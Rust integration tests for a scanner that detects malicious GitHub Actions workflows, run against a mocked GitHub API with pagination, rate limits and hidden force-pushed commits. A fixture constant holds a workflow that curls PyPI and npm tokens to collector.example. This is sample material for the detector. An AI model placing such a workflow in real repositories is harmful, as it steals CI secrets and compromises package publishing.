//! `portcullis scan github:OWNER`: a stand-in of GitHub's API and its repositories on loopback, with pages, limits and faults.

use std::collections::{BTreeMap, BTreeSet};
use std::path::Path;
use std::process::{Command, Output};
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::{Arc, Mutex};

use crate::stand_in::{Answer, Request, StandIn, git};
use serde_json::{Value, json};

const STEAL: &str = "name: Security\non: [push]\njobs:\n  send:\n    runs-on: ubuntu-latest\n    steps:\n      - run: |\n          curl -s -d 'PYPI_API_TOKEN=${{ secrets.PYPI_API_TOKEN }}&NPM_TOKEN=${{ secrets.NPM_TOKEN }}' https://collector.example/in\n";
const BENIGN: &str =
    "on: push\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n      - run: make test\n";
const TOKEN: &str = "ghp_0example0token0";
/// Far enough in the future that nobody waits for it: 2100-01-01.
const NEVER: &str = "4102444800";

fn scan(server: &StandIn, arguments: &[&str]) -> Output {
    command(server, arguments).output().unwrap()
}

fn command(server: &StandIn, arguments: &[&str]) -> Command {
    let mut command = Command::new(env!("CARGO_BIN_EXE_portcullis"));
    command.args(["scan", "--format", "jsonl", "--github-api", &server.url]).args(arguments);
    for name in ["RUST_LOG", "GITHUB_API_URL", "GITHUB_SERVER_URL", "GITLAB_TOKEN", "CI_SERVER_URL"] {
        command.env_remove(name);
    }
    command.env("GITHUB_TOKEN", TOKEN);
    command
}

/// Lines of the output by their type.
fn lines(output: &Output) -> BTreeMap<String, Vec<Value>> {
    let mut found: BTreeMap<String, Vec<Value>> = BTreeMap::new();
    for line in String::from_utf8_lossy(&output.stdout).lines() {
        let value: Value = serde_json::from_str(line).unwrap();
        found.entry(value["type"].as_str().unwrap().to_owned()).or_default().push(value);
    }
    assert!(found.contains_key("stats"), "{}", String::from_utf8_lossy(&output.stderr));
    found
}

/// Which repositories the lines of a type are about.
fn given(lines: &BTreeMap<String, Vec<Value>>, kind: &str) -> BTreeSet<String> {
    let lines = lines.get(kind).into_iter().flatten();
    lines.map(|line| line["repository"]["given"].as_str().unwrap().to_owned()).collect()
}

fn complete(lines: &BTreeMap<String, Vec<Value>>) -> bool {
    lines["stats"][0]["complete"].as_bool().unwrap()
}

/// A repository on the server with one workflow; its commit.
fn create(root: &Path, name: &str, workflow: Option<&str>) -> String {
    let bare = root.join(format!("{name}.git"));
    std::fs::create_dir_all(&bare).unwrap();
    git(&bare, &["init", "--quiet", "--bare", "--initial-branch=main"]);
    git(&bare, &["config", "uploadpack.allowFilter", "true"]);
    let Some(workflow) = workflow else { return String::new() };
    let tree = tempfile::tempdir().unwrap();
    std::fs::create_dir_all(tree.path().join(".github/workflows")).unwrap();
    std::fs::write(tree.path().join(".github/workflows/w.yml"), workflow).unwrap();
    git(tree.path(), &["init", "--quiet", "--initial-branch=main"]);
    git(tree.path(), &["add", "."]);
    git(tree.path(), &["commit", "--quiet", "--message", "Start"]);
    git(tree.path(), &["push", "--quiet", bare.to_str().unwrap(), "main"]);
    git(tree.path(), &["rev-parse", "HEAD"])
}

fn told(name: &str) -> Value {
    json!({ "full_name": name, "fork": false, "archived": false, "private": false, "pushed_at": "2026-03-01T12:00:00Z" })
}

/// Answers lists in pages of two, with links, as GitHub does.
fn page(request: &Request, repositories: &[Value]) -> Answer {
    let number: usize = request.path.split("&page=").nth(1).map_or(1, |page| page.parse().unwrap());
    let some: Vec<&Value> = repositories.iter().skip((number - 1) * 2).take(2).collect();
    let answer = Answer::json(&json!(some));
    if number * 2 >= repositories.len() {
        return answer;
    }
    let host = &request.headers["host"];
    let path = request.path.split("&page=").next().unwrap();
    let link = format!(
        "<http://{host}{path}&page={}>; rel=\"next\", <http://{host}{path}&page=9>; rel=\"last\"",
        number + 1
    );
    answer.with("Link", &link)
}

/// An organisation of so many repositories, each with the theft.
fn organisation(count: usize) -> (tempfile::TempDir, Vec<Value>) {
    let folder = tempfile::tempdir().unwrap();
    let names: Vec<String> = (0..count).map(|number| format!("example-org/fish{number}")).collect();
    for name in &names {
        create(folder.path(), name, Some(STEAL));
    }
    (folder, names.iter().map(|name| told(name)).collect())
}

#[test]
fn all_pages_of_an_organisation_are_scanned_with_the_token() {
    let (folder, repositories) = organisation(5);
    let server = StandIn::new(folder.path(), move |request| {
        request.path.starts_with("/orgs/example-org/repos").then(|| page(request, &repositories))
    });
    let output = scan(&server, &["github:example-org"]);
    let found = lines(&output);
    assert_eq!(output.status.code(), Some(1));
    let all: BTreeSet<String> = (0..5).map(|number| format!("github:example-org/fish{number}")).collect();
    assert_eq!(given(&found, "finding"), all);
    assert!(complete(&found) && !found.contains_key("problem"), "{found:?}");
    assert_eq!(server.count("/orgs/example-org/repos"), 3);
    assert!(found["finding"][0]["repository"]["identity"].as_str().unwrap().ends_with("/example-org/fish0"));
    let bearer = format!("Bearer {TOKEN}");
    for request in server.requests() {
        let said = request.headers.get("authorization").unwrap();
        assert!(if request.path.contains(".git/") { said.starts_with("Basic ") } else { *said == bearer });
    }
    let text =
        format!("{}{}", String::from_utf8_lossy(&output.stdout), String::from_utf8_lossy(&output.stderr));
    assert!(!text.contains(TOKEN));
}

#[test]
fn a_persons_repositories_are_listed_and_an_own_account_shows_its_private_ones() {
    for own in [false, true] {
        let (folder, repositories) = organisation(1);
        let server = StandIn::new(folder.path(), move |request| {
            let expected = if own { "/user/repos" } else { "/users/Example-Org/repos" };
            if request.path == "/user" {
                return Some(Answer::json(&json!({ "login": if own { "example-org" } else { "somebody" } })));
            }
            request.path.starts_with(expected).then(|| page(request, &repositories))
        });
        let found = lines(&scan(&server, &["github:Example-Org"]));
        assert_eq!(given(&found, "finding").len(), 1, "{own}");
    }
}

#[test]
fn archived_and_forked_and_empty_repositories_have_their_place() {
    let folder = tempfile::tempdir().unwrap();
    for name in ["fork", "archived", "plain"] {
        create(folder.path(), &format!("example-org/{name}"), Some(STEAL));
    }
    create(folder.path(), "example-org/empty", None);
    let mut repositories: Vec<Value> = ["fork", "archived", "plain", "empty", "gone"]
        .iter()
        .map(|name| told(&format!("example-org/{name}")))
        .collect();
    repositories[0]["fork"] = json!(true);
    repositories[1]["archived"] = json!(true);
    let server = StandIn::new(folder.path(), move |request| {
        request.path.starts_with("/orgs/").then(|| page(request, &repositories))
    });
    let found = lines(&scan(&server, &["github:example-org"]));
    assert_eq!(given(&found, "finding").len(), 3);
    assert_eq!(given(&found, "problem"), BTreeSet::from([String::from("github:example-org/gone")]));
    assert!(!complete(&found));
    assert_eq!(found["stats"][0]["repositories"], 5, "{:?}", found["stats"]);
    let found = lines(&scan(&server, &["--skip-forks", "--skip-archived", "github:example-org"]));
    assert_eq!(given(&found, "finding"), BTreeSet::from([String::from("github:example-org/plain")]));
}

#[test]
fn passing_faults_and_secondary_limits_are_waited_for() {
    let (folder, repositories) = organisation(1);
    let asked = AtomicUsize::new(0);
    let server = StandIn::new(folder.path(), move |request| {
        if request.path.contains("info/refs") && asked.fetch_add(1, Ordering::SeqCst) == 3 {
            return Some(Answer::status(503));
        }
        if !request.path.starts_with("/orgs/") {
            return None;
        }
        Some(match asked.fetch_add(1, Ordering::SeqCst) {
            0 => Answer::status(502),
            1 => Answer::status(403).with("Retry-After", "1"),
            2 => page(request, &repositories),
            _ => Answer::status(500),
        })
    });
    let found = lines(&scan(&server, &["github:example-org"]));
    assert_eq!(given(&found, "finding").len(), 1);
    assert!(complete(&found));
    assert_eq!((server.count("/orgs/"), server.count("info/refs")), (3, 2));
}

#[test]
fn faults_that_stay_and_tokens_that_may_not_are_told() {
    for (status, said) in [(502, "502"), (401, "token"), (403, "token")] {
        let folder = tempfile::tempdir().unwrap();
        let server = StandIn::new(folder.path(), move |_| Some(Answer::status(status)));
        let output = scan(&server, &["github:example-org"]);
        assert_eq!(output.status.code(), Some(2));
        assert!(String::from_utf8_lossy(&output.stderr).contains(said), "{status}");
        assert!(server.requests().len() <= 5, "{}", server.requests().len());
    }
}

#[test]
fn a_run_that_meets_the_limit_says_what_is_missing_and_goes_on_later() {
    let (folder, mut repositories) = organisation(6);
    repositories[5]["pushed_at"] = json!("2026-03-02T12:00:00Z");
    let listed = Arc::new(Mutex::new(repositories));
    let (limited, list) = (Arc::new(AtomicUsize::new(3)), Arc::clone(&listed));
    let left = Arc::clone(&limited);
    let server = StandIn::new(folder.path(), move |request| {
        if request.path.starts_with("/orgs/") {
            return Some(page(request, &list.lock().unwrap()));
        }
        let number: usize = request.path.split("fish").nth(1)?.chars().next()?.to_digit(10)? as usize;
        let spent = request.path.contains("/activity") && number >= left.load(Ordering::SeqCst);
        spent.then(|| Answer::status(403).with("X-RateLimit-Remaining", "0").with("X-RateLimit-Reset", NEVER))
    });
    let journal = folder.path().join("journal");
    let arguments = ["--resume", journal.to_str().unwrap(), "github:example-org"];
    let output = scan(&server, &arguments);
    let found = lines(&output);
    assert_eq!((output.status.code(), complete(&found)), (Some(1), false));
    let names = |numbers: std::ops::Range<usize>| -> BTreeSet<String> {
        numbers.map(|number| format!("github:example-org/fish{number}")).collect()
    };
    assert_eq!(given(&found, "finding"), names(0..3));
    assert_eq!(given(&found, "problem"), names(3..6), "what is missing is named");
    assert!(found["problem"].iter().all(|problem| problem["kind"] == "rate-limited"));

    server.forget();
    limited.store(usize::MAX, Ordering::SeqCst);
    // In the meantime somebody pushed to one that was done.
    listed.lock().unwrap()[1]["pushed_at"] = json!("2026-03-05T12:00:00Z");
    let found = lines(&scan(&server, &arguments));
    assert_eq!(given(&found, "finding"), names(0..6), "what was found before is told again");
    assert!(complete(&found));
    let fetched: BTreeSet<usize> =
        (0..6).filter(|number| server.count(&format!("fish{number}.git/")) > 0).collect();
    assert_eq!(fetched, BTreeSet::from([1, 3, 4, 5]));
    assert!(!journal.exists(), "a run that is complete leaves nothing to go on from");
}

#[test]
fn a_wait_that_is_allowed_is_waited_and_one_past_it_is_not() {
    for (allowed, status) in [("1", 1), ("0", 2)] {
        let (folder, repositories) = organisation(1);
        let asked = AtomicUsize::new(0);
        let server = StandIn::new(folder.path(), move |request| {
            request.path.starts_with("/orgs/").then(|| match asked.fetch_add(1, Ordering::SeqCst) {
                0 => Answer::status(429).with("Retry-After", "1"),
                _ => page(request, &repositories),
            })
        });
        let output = scan(&server, &["--wait", allowed, "github:example-org"]);
        assert_eq!(output.status.code(), Some(status), "{allowed}");
    }
}

#[test]
fn what_was_pushed_and_hidden_again_is_known_from_the_activity() {
    let folder = tempfile::tempdir().unwrap();
    create(folder.path(), "example-org/fish", Some(BENIGN));
    let hidden = create(folder.path(), "example-org/other", Some(STEAL));
    // The objects are there, and no reference leads to them.
    let bare = folder.path().join("example-org/fish.git");
    let from = folder.path().join("example-org/other.git");
    git(&bare, &["fetch", "--quiet", from.to_str().unwrap(), "main"]);
    let gone = "2".repeat(40);
    let events = json!([
        { "ref": "refs/heads/main", "before": "0".repeat(40), "after": hidden, "timestamp": "2026-03-02T00:00:00Z" },
        { "ref": "refs/heads/dev", "before": "0".repeat(40), "after": gone, "timestamp": "2026-02-01T00:00:00Z" },
        { "ref": "refs/pull/1/head", "before": "0".repeat(40), "after": "3".repeat(40), "timestamp": "2026-02-01T00:00:00Z" },
    ]);
    let server = StandIn::new(folder.path(), move |request| match request.path.as_str() {
        "/repos/example-org/fish" => Some(Answer::json(&told("example-org/fish"))),
        path if path.starts_with("/repos/example-org/fish/activity") => Some(Answer::json(&events)),
        _ => None,
    });
    let found = lines(&scan(&server, &["github:example-org/fish"]));
    assert_eq!(found["finding"][0]["verdict"], "malicious");
    assert_eq!(found["finding"][0]["standing"], "could-run", "the forge saw it pushed");
    assert_eq!(found["problem"].len(), 1, "{found:?}");
    let what = found["problem"][0]["what"].as_str().unwrap();
    assert!(
        what.starts_with("history-incomplete since 2026-02-01T00:00:00Z") && what.contains(&gone),
        "{what}"
    );
    assert!(!complete(&found));
}

/// What the forge doesn't tell may be what a force-push hid; only a server that has no such list says nothing by that.
#[test]
fn pushes_that_are_not_told_leave_the_scan_incomplete() {
    let folder = tempfile::tempdir().unwrap();
    create(folder.path(), "example-org/fish", Some(BENIGN));
    let push = |at: usize| {
        json!({ "ref": "refs/heads/main", "before": "0".repeat(40), "after": "0".repeat(40),
                "timestamp": format!("2026-03-02T00:{:02}:{:02}Z", at / 60, at % 60) })
    };
    for (status, count, told_all) in
        [(404, 0, true), (500, 0, false), (403, 0, false), (200, 99, true), (200, 100, false)]
    {
        let pushes: Vec<_> = (0..count).map(push).collect();
        let server = StandIn::new(folder.path(), move |request| match request.path.as_str() {
            "/repos/example-org/fish" => Some(Answer::json(&told("example-org/fish"))),
            path if path.contains("/activity") && status == 200 => Some(Answer::json(&json!(pushes))),
            path if path.contains("/activity") || path.contains("/events") => Some(Answer::status(status)),
            _ => None,
        });
        let found = lines(&scan(&server, &["github:example-org/fish"]));
        assert_eq!(complete(&found), told_all, "{status} {count} {found:?}");
        if !told_all {
            assert_eq!(found["problem"][0]["kind"], "history-incomplete");
        }
    }
}

/// A fault that passes is no result to go on from.
#[test]
fn a_file_that_could_not_be_had_is_asked_for_again_by_the_scan_that_goes_on() {
    let (folder, repositories) = organisation(1);
    let failing = Arc::new(std::sync::atomic::AtomicBool::new(true));
    let (fails, posts) = (Arc::clone(&failing), AtomicUsize::new(0));
    let server = StandIn::new(folder.path(), move |request| {
        if request.path.starts_with("/orgs/") {
            return Some(page(request, &repositories));
        }
        // The references, the commits, and then the files.
        let is_file = request.method == "POST" && posts.fetch_add(1, Ordering::SeqCst) >= 2;
        (is_file && fails.load(Ordering::SeqCst)).then(|| Answer::status(404))
    });
    let journal = folder.path().join("journal");
    let arguments = ["--resume", journal.to_str().unwrap(), "github:example-org"];
    let found = lines(&scan(&server, &arguments));
    assert!(!complete(&found) && given(&found, "finding").is_empty(), "{found:?}");
    failing.store(false, Ordering::SeqCst);
    let found = lines(&scan(&server, &arguments));
    assert!(complete(&found) && given(&found, "finding").len() == 1, "{found:?}");
    assert!(!journal.exists());
}

#[test]
fn pages_that_lead_to_another_server_are_not_followed() {
    let (folder, repositories) = organisation(1);
    let server = StandIn::new(folder.path(), move |request| {
        let link = "<http://localhost:1/orgs/x/repos?page=2>; rel=\"next\"";
        request.path.starts_with("/orgs/").then(|| page(request, &repositories).with("Link", link))
    });
    let found = lines(&scan(&server, &["github:example-org"]));
    assert_eq!(given(&found, "finding").len(), 1);
    assert!(!complete(&found));
    assert!(found["problem"][0]["what"].as_str().unwrap().contains("another server"));
}

#[test]
fn as_many_pages_as_may_be_are_read_and_no_more() {
    for (pages, whole) in [(1_000, true), (1_001, false)] {
        let folder = tempfile::tempdir().unwrap();
        let server = StandIn::new(folder.path(), move |request| {
            let number: usize = request.path.split("&page=").nth(1).map_or(1, |page| page.parse().unwrap());
            let answer = Answer::json(&json!([]));
            let host = &request.headers["host"];
            let link = format!("<http://{host}/orgs/example-org/repos?x&page={}>; rel=\"next\"", number + 1);
            Some(if number < pages { answer.with("Link", &link) } else { answer })
        });
        let output = scan(&server, &["github:example-org"]);
        let text = String::from_utf8_lossy(&output.stderr).into_owned();
        assert_eq!(text.contains("pages of repositories"), !whole, "{text}");
        assert_eq!(server.requests().len(), 1_000);
    }
}

#[test]
fn as_large_an_answer_as_may_be_is_read_and_no_larger_one() {
    const LIMIT: usize = 16 << 20;
    for (size, status) in [(LIMIT, 1), (LIMIT + 1, 2)] {
        let (folder, repositories) = organisation(1);
        let server = StandIn::new(folder.path(), move |request| {
            request.path.starts_with("/orgs/").then(|| {
                let mut answer = page(request, &repositories);
                answer.body.resize(size, b' ');
                answer
            })
        });
        assert_eq!(scan(&server, &["github:example-org"]).status.code(), Some(status), "{size}");
    }
}

#[test]
fn a_primary_limit_that_ends_soon_is_waited_for_and_one_that_only_the_text_tells_is_known() {
    let (folder, repositories) = organisation(1);
    let asked = AtomicUsize::new(0);
    let server = StandIn::new(folder.path(), move |request| {
        request.path.starts_with("/orgs/").then(|| match asked.fetch_add(1, Ordering::SeqCst) {
            0 => {
                let now =
                    std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH).unwrap().as_secs();
                let answer = Answer::status(403).with("X-RateLimit-Remaining", "0");
                answer.with("X-RateLimit-Reset", &(now + 1).to_string())
            }
            _ => page(request, &repositories),
        })
    });
    assert_eq!(given(&lines(&scan(&server, &["github:example-org"])), "finding").len(), 1);

    let server = StandIn::new(folder.path(), |_| {
        let body = b"{\"message\": \"You have exceeded a secondary rate limit.\"}".to_vec();
        Some(Answer { body, ..Answer::status(403) })
    });
    let output = scan(&server, &["--wait", "59", "github:example-org"]);
    let text = String::from_utf8_lossy(&output.stderr).into_owned();
    assert_eq!(output.status.code(), Some(2));
    assert!(text.contains("asks to wait for 60 s") && text.contains("59 s may still be waited"), "{text}");
}

#[test]
fn results_come_while_other_repositories_are_still_fetched() {
    let (folder, repositories) = organisation(6);
    let (seen, told) = std::sync::mpsc::channel::<()>();
    let told = Mutex::new(told);
    let server = StandIn::new(folder.path(), move |request| {
        if request.path.contains("fish5/activity") {
            // Not before somebody has read a result; the test fails where that takes too long.
            let waited = told.lock().unwrap().recv_timeout(std::time::Duration::from_secs(60));
            return Some(
                Answer::status(if waited.is_ok() { 404 } else { 429 }).with("Retry-After", "100000"),
            );
        }
        request.path.starts_with("/orgs/").then(|| page(request, &repositories))
    });
    let mut child =
        command(&server, &["github:example-org"]).stdout(std::process::Stdio::piped()).spawn().unwrap();
    let mut reader = std::io::BufReader::new(child.stdout.take().unwrap());
    let mut first = String::new();
    std::io::BufRead::read_line(&mut reader, &mut first).unwrap();
    seen.send(()).unwrap();
    let mut rest = String::new();
    std::io::Read::read_to_string(&mut reader, &mut rest).unwrap();
    assert_eq!(child.wait().unwrap().code(), Some(1));
    assert!(first.contains("fish0") && rest.contains("github:example-org/fish5"), "{first}{rest}");
    assert!(!rest.contains("rate-limited"), "the last one was waited for in vain: {rest}");
}
